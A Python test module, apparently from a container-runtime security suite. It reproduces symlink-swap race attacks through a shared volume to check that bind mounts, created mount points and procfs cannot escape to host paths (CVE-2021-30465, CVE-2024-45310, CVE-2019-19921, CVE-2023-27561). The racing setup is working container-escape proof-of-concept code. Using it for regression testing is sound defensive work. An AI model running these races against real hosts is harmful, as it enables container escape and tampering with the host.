"""Mount destinations and the directories made for them, raced through a shared volume.

The attacker's first container (Racer) has the volume at /vol and swaps a directory in it
with a symlink as fast as it can; the victim container gets the same volume and config
mounts whose destinations go through that directory. A runtime that resolves a destination
inside the rootfs and then uses the path string again follows the symlink as the host
sees it: the mount lands elsewhere (CVE-2021-30465), directories or files are created on
the host (CVE-2024-45310), or procfs goes somewhere other than /proc (CVE-2019-19921,
CVE-2023-27561).
"""
import os

from lib.framework import Failure
from seclib import (PROC_AUDIT, Racer, Vulnerable, attack, attempt, proc_audit_problems, race,
                    tree)


def volume(t):
    v = t.path("vol")
    os.makedirs(v)
    os.chmod(v, 0o777)
    return v


@attack("cve_2021_30465_bind_swap", ["CVE-2021-30465"],
        "a bind mount destination in a shared volume swapped with a symlink (to the host path "
        "of a directory the container can see) does not land on the symlink's host target")
def _(t, env):
    vol = volume(t)
    src = t.path("src")
    os.makedirs(src)
    secret = "bind-source-" + os.urandom(6).hex()
    with open(os.path.join(src, "marker"), "w") as f:
        f.write(secret + "\n")
    b = t.bundle(name="victim")
    os.makedirs(os.path.join(b.rootfs, "escape"))
    os.makedirs(os.path.join(vol, "d"))
    # Host-path resolution of the swapped-in symlink reaches <rootfs>/escape, visible in the
    # container as /escape; in-root resolution makes <rootfs>/<that host path> instead.
    os.symlink(os.path.join(b.rootfs, "escape"), os.path.join(vol, "l"))
    b.add_mount("/vol", "bind", vol, ["rbind", "rw"])
    b.add_mount("/vol/d", "bind", src, ["bind", "ro"])
    b.script("cat /escape/marker 2>/dev/null | sed 's/^/ESCAPED /'; cat /vol/d/marker 2>/dev/null | sed 's/^/INPLACE /'; true")
    racer = Racer(t, vol, "d", "l")
    where = {}

    def judge(result, i):
        if result[0] != "ran":
            return
        out = result[1]
        if "ESCAPED " + secret in out:
            raise Vulnerable("attempt %d: the bind of %s landed on %s/escape (the symlink followed on the "
                             "host) instead of /vol/d" % (i, src, b.rootfs))
        key = "in place" if "INPLACE " + secret in out else "followed inside the rootfs"
        where[key] = where.get(key, 0) + 1

    race(t, lambda i: attempt(t, b), racer, budget_s=25, max_attempts=60, judge=judge)
    t.note("where the mounts that were made landed: %s" % where)


@attack("cve_2024_45310_mkdir_swap", ["CVE-2024-45310"],
        "mount points created under a shared-volume directory swapped with a symlink to a host "
        "directory: nothing is created on the host",
        runc_vulnerable="fixed in runc 1.1.14: MkdirAll and OpenFile(O_CREAT) of a mount point "
                        "follow a symlink swapped in after the in-root resolution")
def _(t, env):
    vol = volume(t)
    victim_dir = t.path("host-victim")
    os.makedirs(victim_dir)
    os.makedirs(os.path.join(vol, "d"))
    os.symlink(victim_dir, os.path.join(vol, "l"))
    src_file = t.path("src-file")
    open(src_file, "w").close()
    b = t.bundle(name="victim")
    b.add_mount("/vol", "bind", vol, ["rbind", "rw"])
    b.set_args("true")
    racer = Racer(t, vol, "d", "l")
    base_mounts = list(b.config["mounts"])

    def victim(i):
        # Fresh names every time: a directory made by an earlier attempt is not made again.
        b.config["mounts"] = base_mounts + [
            {"destination": "/vol/d/dir%d/sub" % i, "type": "tmpfs", "source": "tmpfs"},
            {"destination": "/vol/d/file%d" % i, "type": "bind", "source": src_file, "options": ["bind"]},
        ]
        return attempt(t, b)

    def judge(result, i):
        found = tree(victim_dir)
        if found:
            raise Vulnerable("attempt %d: created on the host in %s: %s" % (i, victim_dir, ", ".join(found[:8])))

    race(t, victim, racer, budget_s=25, max_attempts=80, judge=judge)
    made = [n for n in os.listdir(os.path.join(vol, "d")) if n.startswith(("dir", "file"))]
    t.note("%d mount points were made inside the volume, none in %s" % (len(made), victim_dir))


@attack("cve_2019_19921_proc_swap", ["CVE-2019-19921", "CVE-2023-27561"],
        "the image's /proc is a symlink into a shared volume where a directory and a symlink to "
        "a fake /proc are swapped: procfs is mounted on /proc, masked, /proc/sys read-only")
def _(t, env):
    vol = volume(t)
    b = t.bundle(name="victim")
    fake = os.path.join(b.rootfs, "fakeproc")
    os.makedirs(os.path.join(fake, "self", "attr"))
    for name in ("keys", "timer_list", "self/attr/exec"):
        with open(os.path.join(fake, name), "w") as f:
            f.write("FAKE-PROC\n")
    os.makedirs(os.path.join(vol, "dproc"))
    os.symlink("/fakeproc", os.path.join(vol, "lproc"))
    os.rmdir(os.path.join(b.rootfs, "proc"))
    os.symlink("/vol/dproc", os.path.join(b.rootfs, "proc"))
    # The volume first, so /proc's symlink leads into it when procfs is mounted.
    b.add_mount("/vol", "bind", vol, ["rbind", "rw"], first=True)
    b.script(PROC_AUDIT)
    racer = Racer(t, vol, "dproc", "lproc")

    def judge(result, i):
        if result[0] != "ran":
            return
        problems = proc_audit_problems(result[1])
        if problems:
            raise Vulnerable("attempt %d: %s" % (i, "; ".join(problems)))

    tally = race(t, lambda i: attempt(t, b), racer, budget_s=15, max_attempts=30, judge=judge)
    if not tally:
        raise Failure("no attempt was made")
